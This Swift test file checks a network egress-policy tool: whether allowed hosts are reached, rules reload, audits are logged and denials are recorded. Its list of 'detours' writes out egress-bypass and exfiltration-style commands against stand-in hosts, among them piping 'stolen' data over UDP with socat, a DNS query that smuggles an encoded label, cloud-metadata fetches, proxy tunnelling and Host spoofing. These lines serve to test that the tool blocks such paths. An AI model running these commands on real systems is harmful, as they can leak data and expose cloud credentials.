import Foundation
import Testing

@testable import RDNetKit

@Suite(
    "an egress policy, with real programs",
    .serialized,
    .enabled(if: canMakeNamespaces, "needs root to make network namespaces")
)
struct PolicyTests {
    /// `curl` that prints its status and nothing else.
    private static let curl = "curl -sk -m 20 -o /dev/null -w '%{http_code} '"

    private func scene(_ options: String...) throws -> PolicyScene {
        let scene = try PolicyScene(options)
        try scene.serveWeb(PolicyScene.good, page: "welcome")
        try scene.serveWeb(PolicyScene.evil, page: "stolen")
        return scene
    }

    @Test func `an allowed name works, by HTTP and by TLS`() throws {
        let scene = try scene("--allow", "tcp good.example:80,443")
        try scene.serveTLS(PolicyScene.good)
        let output = try scene.guest(
            "\(Self.curl) http://good.example/; \(Self.curl) http://GOOD.example./; "
                + "\(Self.curl) https://good.example/"
        )
        #expect(output == "200 200 200 ")
    }

    @Test func `a ping to an allowed name is answered`() throws {
        let scene = try scene("--allow", "icmp good.example")
        #expect(try scene.guest("ping -n -c 1 -W 20 good.example").contains("ttl="))
        #expect(try scene.guest("\(Self.curl) http://good.example/") == "000 ")
    }

    /// Ways around a rule for `good.example`, each as a shell command that prints what it got.
    private static let detours: [(what: String, command: String)] = [
        ("another name", "curl -s -m 20 http://evil.example/"),
        ("another address", "curl -s -m 20 http://\(PolicyScene.evil)/"),
        ("the allowed name's address", "curl -s -m 20 http://\(PolicyScene.good)/"),
        ("another port of the allowed address", "curl -s -m 20 http://good.example:8080/"),
        ("another Host", "curl -s -m 20 -H 'Host: cdn.example' http://good.example/"),
        ("another name of the address", "curl -s -m 20 http://cdn.example/"),
        (
            "another name at the address",
            "curl -s -m 20 --connect-to cdn.example:80:good.example:80 http://cdn.example/"
        ),
        (
            "the address as a proxy",
            "curl -s -m 20 -x http://good.example:80 http://evil.example/"
        ),
        (
            "the address as a tunnel",
            "curl -sk -m 20 -p -x http://good.example:80 https://evil.example/"
        ),
        ("HTTP/2 without TLS", "curl -s -m 20 --http2-prior-knowledge http://good.example/"),
        (
            "TLS with another name",
            "curl -sk -m 20 --connect-to cdn.example:443:good.example:443 https://cdn.example/"
        ),
        ("TLS without a name", "curl -sk -m 20 https://\(PolicyScene.good)/"),
        (
            "a second request",
            "printf 'GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
                + "GET / HTTP/1.1\\r\\nHost: cdn.example\\r\\n\\r\\n' "
                + "| nc -N good.example 80 | grep -c welcome | grep 2"
        ),
        ("a name in a private network", "curl -s -m 20 http://rebind.example/"),
        ("the host's name", "curl -s -m 20 http://host.docker.internal/"),
        ("the host's address", "curl -s -m 20 http://10.72.0.1/"),
        ("the cloud's metadata", "curl -s -m 20 http://169.254.169.254/"),
        (
            "another resolver",
            "dig +short +time=1 +tries=1 @\(PolicyScene.resolver) evil.example | grep '^9'"
        ),
        (
            "the resolver by TCP",
            "dig +tcp +short +time=1 +tries=1 @10.72.0.2 evil.example | grep '^9'"
        ),
        ("a ping", "ping -n -c 1 -W 2 \(PolicyScene.evil) | grep ttl"),
        (
            "a datagram",
            "echo stolen | socat -t 1 - UDP:\(PolicyScene.evil):7 2>/dev/null"
        ),
        ("the gateway's API", "curl -s -m 20 http://192.168.127.1/services/forwarder/all"),
    ]

    @Test func `no detour around a name rule leads anywhere`() throws {
        let scene = try scene("--allow", "tcp good.example:80,443")
        try scene.serveTLS(PolicyScene.good)
        try scene.serveWeb(PolicyScene.good, page: "other port", port: 8080)
        try scene.serve(["busybox", "httpd", "-f", "-p", "10.72.0.2:80", "-h", "/usr/share"])
        try scene.awaitListener("10.72.0.2:80")
        try scene.serve(["socat", "UDP-LISTEN:7,bind=\(PolicyScene.evil)", "PIPE"])
        // The guest knows the addresses' names, as far as it may.
        #expect(try scene.guest("getent hosts good.example").contains(PolicyScene.good))
        for (what, command) in Self.detours {
            #expect(try scene.guest(command) == "", "\(what)")
        }
        // The same commands work where they are allowed.
        try scene.ctl("allow", "any")
        for (what, command) in Self.detours where what.contains("another") || what == "a datagram" {
            #expect(try scene.guest(command) != "", "\(what)")
        }
    }

    @Test func `a name that no rule allows is not even asked for`() throws {
        let scene = try scene("--allow", "good.example")
        _ = try scene.guest("getent hosts c2VjcmV0.evil.example; getent hosts good.example")
        #expect(try scene.queries.contains("good.example"))
        #expect(try !scene.queries.contains("evil.example"))
    }

    @Test func `git clones, ssh connects and apt updates, without a proxy`() throws {
        let scene = try scene("--allow", "tcp good.example:80,22")
        let folder = scene.directory.file("www-\(PolicyScene.good)")
        try RDNetKitTests.run(
            "sh",
            "-c",
            """
            set -e; cd \(folder)
            git init -q -b main work; cd work
            git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first
            git clone -q --bare . ../code.git; cd ../code.git; git update-server-info
            mkdir ../debian; : >../debian/Packages
            """
        )
        let key = scene.directory.file("host_key")
        try RDNetKitTests.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
        let sshd =
            "unshare -m sh -c 'mount -t tmpfs none /run; mkdir /run/sshd; exec sshd -i -h \(key)'"
        let script = scene.directory.file("sshd")
        try "#!/bin/sh\nPATH=$PATH:/usr/sbin\n\(sshd)\n".write(
            toFile: script,
            atomically: true,
            encoding: .utf8
        )
        try RDNetKitTests.run("chmod", "+x", script)
        try scene.serve([
            "socat", "TCP-LISTEN:22,bind=\(PolicyScene.good),reuseaddr,fork", "EXEC:\(script)",
        ])
        try scene.awaitListener("\(PolicyScene.good):22")
        let clone = scene.directory.file("clone")
        let apt = scene.directory.file("apt")
        let output = try scene.guest(
            """
            git clone -q http://good.example/code.git \(clone) && git -C \(clone) log --format=%s
            ssh-keyscan -T 20 good.example 2>/dev/null | grep -c ed25519
            mkdir -p \(apt)/partial; echo 'deb [trusted=yes] http://good.example/debian ./' >\(apt)/s
            apt-get -qq -o Dir::Etc::SourceList=\(apt)/s -o Dir::Etc::SourceParts=/dev/null \
                -o Dir::State::Lists=\(apt) -o APT::Sandbox::User=root update && echo updated
            git clone -q http://evil.example/code.git \(clone)2 || echo refused
            """
        )
        #expect(output.contains("first\n1\n"), "\(output)")
        #expect(output.contains("updated"), "\(output)")
        #expect(output.contains("refused"), "\(output)")
    }

    @Test func `the log says which rule denied a connection, and the report what it needs`() throws
    {
        let scene = try scene("--policy", "public", "--deny", "evil.example")
        let output = try scene.guest(
            "\(Self.curl) http://good.example/; \(Self.curl) http://evil.example/; "
                + "\(Self.curl) http://10.72.0.2/"
        )
        #expect(output == "200 000 000 ")
        let log = try scene.ctl("log")
        #expect(log.contains("deny evil.example"), "\(log)")
        #expect(log.contains("default deny"), "\(log)")
        let report = try scene.ctl("report")
        #expect(report.contains("allow = tcp good.example:80  # "), "\(report)")
        #expect(report.contains("allow = tcp 10.72.0.2:80  # "), "\(report)")
        #expect(try scene.ctl("check", "tcp", "evil.example:80").hasPrefix("deny (deny evil"))
        #expect(try scene.ctl("check", "10.0.0.1").hasPrefix("deny (default deny)"))
    }

    @Test func `the report's rules allow what was seen, and nothing else`() throws {
        func outcome(_ scene: PolicyScene, _ script: String) throws -> String {
            try scene.serveWeb(PolicyScene.resolver, page: "private")
            let server = try RunningProgram([BuiltProgram.load, "echo", "7"], in: scene.up.host)
            defer { server.end(with: SIGKILL) }
            #expect(try comesTrue { try scene.up.host.run("ss", "-Htln").contains(":7") })
            return try scene.guest(script)
        }
        let wanted = """
            for host in 10.72.0.2 good.example rebind.example; do \(Self.curl) http://$host/; done
            for host in 192.168.127.254 host.docker.internal; do nc -z -w 5 $host 7; echo $?; done
            """
        let observed = try scene("--allow", "any")
        #expect(try outcome(observed, wanted) == "200 200 200 0\n0\n")
        let file = TemporaryDirectory()
        let report = try observed.ctl("report")
        try report.write(toFile: file.file("policy"), atomically: true, encoding: .utf8)
        let pasted = try scene("--policy", file.file("policy"))
        let more = """
            \(Self.curl) http://evil.example/; \(Self.curl) http://10.72.0.1/
            nc -z -w 5 192.168.127.254 22; echo $?
            """
        #expect(
            try outcome(pasted, "\(wanted)\n\(more)") == "200 200 200 0\n0\n000 000 1\n",
            "\(report)"
        )
        #expect(try pasted.ctl("check", "tcp", "192.168.127.254:7").hasPrefix("allow"))
        #expect(try pasted.ctl("check", "tcp", "192.168.127.254:22").hasPrefix("deny"))
    }

    @Test func `rules change while it runs`() throws {
        let file = TemporaryDirectory()
        let path = file.file("policy")
        try "[rules]\nallow = good.example\n".write(
            toFile: path,
            atomically: true,
            encoding: .utf8
        )
        let scene = try scene("--policy", path)
        let evil = "\(Self.curl) http://evil.example/"
        #expect(try scene.guest(evil) == "000 ")
        try scene.ctl("allow", "tcp", "evil.example:80")
        #expect(try scene.guest(evil) == "200 ")
        try scene.ctl("remove", "allow", "tcp", "evil.example:80")
        #expect(try scene.guest(evil) == "000 ")
        // A mistake leaves the old rules in force.
        try "[rules]\nallow = x..y\n".write(toFile: path, atomically: true, encoding: .utf8)
        let failure = #expect(throws: ProgramFailure.self) { try scene.ctl("reload") }
        #expect(failure?.description.contains("policy:2: column 9: \"x..y\"") == true)
        try FileManager.default.removeItem(atPath: path)
        #expect(throws: ProgramFailure.self) { try scene.ctl("reload") }
        #expect(try scene.guest("\(Self.curl) http://good.example/") == "200 ")
        try "[rules]\nallow = evil.example\n".write(toFile: path, atomically: true, encoding: .utf8)
        try scene.ctl("reload")
        #expect(try scene.guest("\(evil); \(Self.curl) http://good.example/") == "200 000 ")
    }

    @Test func `a person decides while the program waits`() throws {
        let file = TemporaryDirectory()
        let path = file.file("policy")
        try "[policy]\ndefault = ask\n".write(toFile: path, atomically: true, encoding: .utf8)
        let scene = try scene("--policy", path)
        for (verdict, outcome) in [("allow", "200 "), ("deny", "000 ")] {
            let name = verdict == "allow" ? "good.example" : "evil.example"
            let output = file.file(verdict)
            let script = "\(Self.curl) http://\(name)/ >\(output).new; mv \(output).new \(output)"
            try scene.start(script)
            #expect(try comesTrue { try scene.ctl("pending").contains(name) })
            let number = try scene.ctl("pending").split(separator: "\n")[1].split(separator: " ")[0]
            try scene.ctl(verdict, String(number))
            #expect(comesTrue { FileManager.default.fileExists(atPath: output) })
            let answer = try String(contentsOfFile: output, encoding: .utf8)
            #expect(answer == outcome, "\(verdict)")
        }
    }

    @Test func `decisions and ended connections are recorded as JSON`() throws {
        let file = TemporaryDirectory()
        let path = file.file("audit")
        let scene = try scene("--allow", "good.example", "--audit", path)
        _ = try scene.guest("\(Self.curl) http://good.example/; \(Self.curl) http://evil.example/")
        func lines() throws -> [JSON] {
            try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n").map {
                try JSONParser.parse(Array($0.utf8))
            }
        }
        #expect(try comesTrue { try lines().contains { $0.text("msg") == "flow ended" } })
        let ended = try #require(try lines().first { $0.text("msg") == "flow ended" })
        #expect(ended.text("name") == "good.example")
        #expect(Int(ended.text("bytesToGuest")) ?? 0 > 7)
        let denied = try #require(try lines().first { $0.text("verdict") == "deny" })
        #expect(denied.text("protocol") == "dns")
        #expect(denied.text("name") == "evil.example")
        #expect(denied.text("rule") == "default deny")
    }

    @Test(
        "a policy that cannot be read ends the program with one sentence",
        arguments: [
            (
                ["--policy", "/no/such"],
                "/no/such: no such file; expected a file, offline or public"
            ),
            (
                ["--allow", "tcp"],
                "--allow: \"tcp\" is not valid; expected [tcp|udp|icmp|quic|dns]"
            ),
            (["--allow", "any"], "--policy, --allow and --deny need a command"),
        ]
    )
    func endsTheProgram(options: [String], sentence: String) throws {
        let command = options == ["--allow", "any"] ? [] : ["--", "true"]
        let failure = #expect(throws: ProgramFailure.self) {
            try RDNetKitTests.run([BuiltProgram.rdnet, "up"] + options + command)
        }
        #expect(failure?.description.contains(sentence) == true, "\(failure?.description ?? "")")
    }
}
